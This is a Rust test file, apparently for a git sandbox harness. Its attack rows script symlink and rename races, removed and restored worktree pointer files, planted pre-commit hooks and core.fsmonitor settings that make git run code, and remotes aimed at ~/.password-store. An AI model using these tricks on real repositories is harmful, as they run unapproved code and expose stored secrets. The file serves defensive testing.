//! A text leads git along a way, and a link on that way leads it elsewhere: to another repository
//! than was judged, or to what the run may not read. And what a repository keeps of a work tree
//! is taken away, so that nobody knows whose it is.

use crate::oracle::Tool::Person;
use crate::row::{ROW, Row, Then};

/// A repository with hooks that lie in each work tree, and the person's own one of those.
pub const WITH_HOOKS: Row = Row {
    prepare: "git init -q -b main r; git -C r commit -q --allow-empty -m x; git -C r config core.hooksPath .githooks; git -C r worktree add -q ../keep/pw",
    ask: &[Person("cd x/pw; echo x >n; git add n; git commit -qm n")],
    ..ROW
};
/// The same for the hidden repository of the person.
pub const WITH_SECRETS: Row = Row {
    prepare: "git init -q -b main; git init -q -b main ~/.password-store; git -C ~/.password-store commit -q --allow-empty -m x",
    ask: &[Person("git fetch -q --all; [ -z \"$(git for-each-ref refs/remotes)\" ] || $(cat c)")],
    ..ROW
};

/// The person looks at a repository in a directory of the run's own, by a link, while the run lasts.
pub const IN_OWN_DIRECTORY: Row = Row {
    then: Then::During(
        "for d in sub over/e; do if cd $d 2>/dev/null; then git status >/dev/null 2>&1; cd - >/dev/null; fi; done",
    ),
    ask: &[Person("[ ! -e marker ] || $(cat c)")],
    ..ROW
};

macro_rules! of_own {
    ($place:literal, $then:literal) => {
        concat!(
            "git init -q -b main ",
            $place,
            "; git -C ",
            $place,
            " config user.name Me; git -C ",
            $place,
            " config user.email me@localhost; git -C ",
            $place,
            " commit -q --allow-empty -m x; mkdir x; git -C ",
            $place,
            " worktree add -q $PWD/x/pw; mkdir x/pw/.githooks; mkhook x/pw/.githooks/pre-commit; ",
            $then
        )
    };
}

/// Attacks.
pub const ROWS: &[Row] = &[
    Row { id: "way-link", attack: of_own!("q", "mv q q2; ln -s r q"), ..WITH_HOOKS },
    Row { id: "way-link-moved", attack: of_own!("q", "ln -s r l; mv q q2; mv l q"), ..WITH_HOOKS },
    Row {
        id: "way-link-exchanged",
        attack: of_own!(
            "q",
            "ln -s r l; python3 -c 'import ctypes; ctypes.CDLL(None).renameat2(-100, b\"l\", -100, b\"q\", 2)'"
        ),
        ..WITH_HOOKS
    },
    Row { id: "way-link-of-link", attack: of_own!("q", "mv q q2; ln -s l q; ln -s r l"), ..WITH_HOOKS },
    Row { id: "way-link-above", attack: of_own!("a/q", "mkdir b; ln -s ../r b/q; mv a a2; ln -s b a"), ..WITH_HOOKS },
    Row { id: "way-link-within", attack: of_own!("a/q", "mkdir b; ln -s ../r b/q; mv a a2; mv b a"), ..WITH_HOOKS },
    Row { id: "way-link-second", attack: of_own!("q", "ln -s r l; mv q q2; ln -P l q"), ..WITH_HOOKS },
    Row {
        id: "way-beside",
        attack: of_own!("q", "cat x/pw/.git"),
        then: Then::Beside("wait_for_go; mv q q2; ln -s r q"),
        ..WITH_HOOKS
    },
    Row { id: "way-later", attack: of_own!("q", "mv q q2"), then: Then::Later("ln -s r q"), ..WITH_HOOKS },
    // What the repository keeps of a work tree of the person's.
    Row {
        id: "way-common-taken-away",
        attack: "rm r/.git/worktrees/pw/commondir",
        then: Then::Later(
            "mkdir keep/pw/.githooks; mkhook keep/pw/.githooks/pre-commit; printf '../..\\n' >r/.git/worktrees/pw/commondir",
        ),
        ask: &[Person("cd keep/pw; echo x >n; git add n; git commit -qm n")],
        ..WITH_HOOKS
    },
    Row {
        id: "way-pointer-taken-away",
        attack: "cp keep/pw/.git p; rm keep/pw/.git",
        then: Then::Later("mkdir keep/pw/.githooks; mkhook keep/pw/.githooks/pre-commit; cat p >keep/pw/.git"),
        ask: &[Person("cd keep/pw; echo x >n; git add n; git commit -qm n")],
        ..WITH_HOOKS
    },
    Row {
        id: "way-program-common-taken-away",
        prepare: "git init -q -b main r; git -C r commit -q --allow-empty -m x; git -C r config core.fsmonitor tools/mon; git -C r worktree add -q ../keep/pw",
        attack: "rm r/.git/worktrees/pw/commondir",
        then: Then::Later(
            "mkdir keep/pw/tools; mkhook keep/pw/tools/mon; printf '../..\\n' >r/.git/worktrees/pw/commondir",
        ),
        ask: &[Person("cd keep/pw; git status")],
        ..ROW
    },
    // An address on this machine.
    Row {
        id: "way-address-pointer",
        attack: "echo $C >c; echo \"gitdir: $HOME/.password-store/.git\" >ptr; git remote add zz $PWD/ptr; git remote add yy ../$(basename $PWD)/ptr",
        ..WITH_SECRETS
    },
    Row {
        id: "way-address-pointer-later",
        attack: "echo $C >c; git bundle create ptr main 2>/dev/null; echo x >ptr; git remote add zz $PWD/ptr; echo \"gitdir: $HOME/.password-store/.git\" >ptr",
        ..WITH_SECRETS
    },
    Row {
        id: "way-address-missing",
        attack: "echo $C >c; git remote add zz $PWD/later; ln -s ~/.password-store later",
        ..WITH_SECRETS
    },
    Row {
        id: "way-address-replaced",
        attack: "echo $C >c; git init -q a; git remote add zz $PWD/a; mv a b; ln -s ~/.password-store a",
        ..WITH_SECRETS
    },
    Row {
        id: "way-address-above",
        attack: "echo $C >c; git init -q a/.password-store; git remote add zz $PWD/a/.password-store; mv a b; ln -s ~ a",
        ..WITH_SECRETS
    },
    Row {
        id: "way-address-within",
        attack: "echo $C >c; git init -q a/h/.password-store; git remote add zz $PWD/a/h/.password-store; mkdir b; ln -s ~ b/h; mv a a2; mv b a",
        ..WITH_SECRETS
    },
    // A directory of the run's own that has a path on the host, at level restricted.
    Row {
        id: "way-to-own-temporary",
        attack: "echo $C >c; T=$(mktemp -d); git init -q $T/e; printf '[core]\\n\\tfsmonitor = \"touch %s/marker; false\"\\n' $PWD >>$T/e/.git/config; ln -s $T/e sub; ln -s $T over; wait_for_go",
        ..IN_OWN_DIRECTORY
    },
];

/// Ordinary work.
pub const WORK: &[Row] = &[
    Row {
        id: "way-work-links",
        attack: "mkdir -p packages/a node_modules/.bin; echo x >packages/a/cli; ln -s ../packages/a node_modules/a; ln -s ../a/cli node_modules/.bin/a; ln -s later now; mkdir later; mv node_modules n; mv n node_modules; cat node_modules/a/cli; ln -s /usr/lib lib; ln -s . self",
        ..WITH_HOOKS
    },
    Row {
        id: "way-work-moved",
        attack: "git init -q -b main q; git -C q commit -q --allow-empty -m x; git -C q worktree add -q ../w; git -C q worktree remove ../w; mv q q2; mv q2 q; git -C q log --oneline",
        ..ROW
    },
    Row {
        id: "way-work-remotes",
        prepare: "git init -q -b main; git commit -q --allow-empty -m x; git init -q --bare o.git; git init -q -b main lib; git -C lib commit -q --allow-empty -m y",
        attack: "git remote add origin ./o.git; git push -q origin main; git remote add lib ./lib; git fetch -q lib; git remote add up https://localhost/x; git clone -q lib copy; git -C copy log --oneline",
        ..ROW
    },
];
